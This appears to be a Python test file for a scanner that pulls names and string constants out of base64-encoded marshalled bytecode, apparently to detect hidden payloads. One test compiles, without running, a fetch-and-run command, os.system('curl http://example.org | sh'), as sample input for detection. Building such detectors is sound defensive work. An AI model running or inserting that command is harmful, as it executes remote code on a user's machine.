"""Strings of marshalled code."""

import base64
import marshal

from hypothesis import given
from hypothesis import strategies as st

from assaymark.scan.config.bytecode import code_words


def test_names_and_constants_are_found() -> None:
    """Imports, attributes, constants of any length."""
    code = compile("import os\nos.system('curl http://example.org | sh')\nx = 'y' * 3", "<x>", "exec")
    found = code_words(base64.b64encode(marshal.dumps(code)).decode())

    assert {"os", "system", "curl http://example.org | sh"} <= set(found)


@given(st.binary(max_size=500))
def test_any_bytes_are_taken(raw: bytes) -> None:
    """Bytes that are no code give strings that stand in them, or none."""
    for word in code_words(base64.b64encode(raw).decode()):
        assert word.encode() in raw


def test_text_that_is_no_base64() -> None:
    """It says nothing."""
    assert code_words("ä!") == ()
    assert code_words("A" * (5 << 20)) == ()
